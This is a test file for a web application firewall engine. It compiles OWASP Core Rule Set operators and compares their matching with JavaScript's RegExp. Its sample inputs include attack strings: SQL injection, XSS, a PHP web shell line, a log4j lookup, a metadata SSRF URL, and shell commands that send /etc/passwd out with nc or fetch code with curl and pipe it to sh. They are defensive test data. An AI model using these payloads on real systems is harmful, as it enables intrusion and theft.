/** The operators of the OWASP Core Rule Set, where it lies beside the repository. */
import assert from "node:assert/strict";
import { existsSync, readdirSync, readFileSync } from "node:fs";
import { join } from "node:path";
import { describe, it } from "node:test";
import { fileURLToPath } from "node:url";
import { PalisadeError } from "@palisade/base";
import { TURN_UNITS } from "@palisade/match";
import { hostileValues, STEPS_PER_OCTET_MAX } from "./hostile.build.js";
import { operatorOf } from "./index.js";
import { CAPTURES_MAX, Captures, type OperatorFiles } from "./operator.js";

/** What any pattern is held to in `@palisade/match`: the states of one are laid out in one turn. */
const TURN_UNITS_MAX = 9 * TURN_UNITS;

const folder = fileURLToPath(new URL("../../../../../shared/corpus/crs/rules/", import.meta.url));
const skip = existsSync(folder) ? false : "the Core Rule Set does not lie in ../shared/corpus/crs";

/** Operators of a rule file with their arguments: what stands in the first quotation of a line after SecRule's variables. */
function operatorsIn(text: string): { readonly name: string; readonly argument: string }[] {
  const lines = text.replace(/^[ \t]*#.*\n/gm, "").replace(/\\\n/g, "");
  return [
    ...lines.matchAll(/^\s*SecRule\s+(?:"(?:[^"\\]|\\.)*"|\S+)\s+"!?@(\w+)(?: ((?:[^"\\]|\\.)*))?"/gms),
  ].map(([, name, argument]) => ({ name: name!, argument: (argument ?? "").replaceAll('\\"', '"') }));
}

describe("the operators of the Core Rule Set", { skip }, () => {
  const files: OperatorFiles = { read: (name) => readFileSync(join(folder, name)), dataset: () => undefined };
  const used = skip
    ? []
    : readdirSync(folder)
        .filter((name) => name.endsWith(".conf"))
        .flatMap((name) => operatorsIn(readFileSync(join(folder, name), "latin1")));
  it("compile, all of them", () => {
    const counts = new Map<string, number>();
    const refused: string[] = [];
    for (const { name, argument } of used) {
      counts.set(name, (counts.get(name) ?? 0) + 1);
      try {
        const kind = operatorOf(name);
        assert.ok(kind, name);
        kind.compile(Buffer.from(argument, "latin1"), files);
      } catch (error) {
        if (!(error instanceof PalisadeError)) throw error;
        refused.push(error.message);
      }
    }
    assert.deepEqual(refused, []);
    assert.equal(counts.get("rx"), 318);
    assert.equal(counts.get("pmFromFile"), 21);
  });

  it("compile in turns that have an end", () => {
    let turns = 0;
    let most = 0;
    for (const { name, argument } of used) {
      const compiling = operatorOf(name)!.compiling?.(Buffer.from(argument, "latin1"), files);
      if (compiling === undefined) continue;
      for (const units of compiling) {
        most = Math.max(most, units ?? 0);
        turns += 1;
      }
    }
    assert.ok(turns > 100, `${turns} turns`);
    assert.ok(most <= TURN_UNITS_MAX, `${most} units in one`);
  });

  it("take few steps for an octet, whatever the value", () => {
    const values = hostileValues(4_096);
    const captures = new Captures();
    let most = 0;
    for (const { name, argument } of used) {
      const operator = operatorOf(name)!.compile(Buffer.from(argument, "latin1"), files);
      for (const value of values) {
        const before = operator.work.steps;
        operator.test(value.octets, 0, value.octets.length, captures);
        const steps = (operator.work.steps - before) / value.octets.length;
        assert.ok(
          steps <= STEPS_PER_OCTET_MAX,
          `@${name} ${argument.slice(0, 80)} on ${value.name}: ${steps}`,
        );
        most = Math.max(most, steps);
      }
    }
    assert.ok(most > 1, "they are counted");
  });

  it("match and capture what JavaScript's RegExp does with the patterns that it takes", () => {
    const texts = [
      "",
      "\n",
      "GET /index.html HTTP/1.1",
      "id=1 union select 1,2,3-- -",
      "1' or '1'='1",
      'x" onmouseover="alert(1)',
      "<script src=//evil.example/x.js></script>",
      "<img src=x onerror=alert(document.cookie)>",
      "../../../../etc/passwd\0.png",
      "; cat /etc/passwd | nc 192.0.2.1 80",
      "$(curl http://192.0.2.1/a|sh) `id`",
      "<?php system($_GET['c']); ?>",
      "javascript:eval(String.fromCharCode(97))",
      ["$", "{jndi:ldap://example.com/a}"].join(""),
      "{{7*7}} #{7*7} <%= 7*7 %>",
      "text/html; charset=utf-8",
      "multipart/form-data; boundary=----a",
      "bytes=0-1,2-3,4-5,6-7,8-9,10-11",
      "http://169.254.169.254/latest/meta-data/",
      "Set-Cookie: a=b\r\nX: y",
      "__proto__[x]=1&constructor.prototype=2",
      "(&(uid=*)(|(a=b)))",
      'O:8:"stdClass":0:{}',
      "caf\xc3\xa9 \xff\xfe %u0041 %41",
      "The quick brown fox jumps over the lazy dog; call 555-1234 or write to a@example.org.",
      "SELECT * FROM t WHERE a = 'b' AND sleep(5) /*! x */",
      "sqlmap/1.7 python-requests/2.31 curl/8.1",
      "127.0.0.1:8080",
    ];
    let compared = 0;
    let matched = 0;
    for (const { argument } of used.filter(({ name }) => name === "rx")) {
      const theirs = javascriptPattern(argument);
      if (theirs === undefined) continue;
      compared += 1;
      const operator = operatorOf("rx")!.compile(Buffer.from(argument, "latin1"), files);
      const captures = new Captures();
      for (const text of texts) {
        const octets = Buffer.from(text, "latin1");
        const match = theirs.exec(text);
        if (match !== null) matched += 1;
        const told = `${argument.slice(0, 80)} on ${JSON.stringify(text)}`;
        assert.equal(operator.test(octets, 0, octets.length, undefined), match !== null, told);
        assert.equal(operator.test(octets, 0, octets.length, captures), match !== null, told);
        if (match === null) continue;
        assert.deepEqual(
          Array.from({ length: captures.count }, (_, group) => [
            captures.starts[group],
            captures.ends[group],
          ]),
          match.indices!.slice(0, CAPTURES_MAX).map((pair) => pair ?? [-1, -1]),
          told,
        );
      }
    }
    assert.ok(compared > 250, `${compared} patterns`);
    assert.ok(matched > 100, `${matched} matches`);
  });
});

/** The pattern over characters that are octets; undefined where JavaScript does not take it. */
function javascriptPattern(argument: string): RegExp | undefined {
  const ignoreCase = argument.startsWith("(?i)");
  const source = (ignoreCase ? argument.slice(4) : argument).replace(/\\x\{([\da-f]{2})\}/gi, "\\x$1");
  try {
    return new RegExp(source, ignoreCase ? "dis" : "ds");
  } catch {
    return undefined;
  }
}
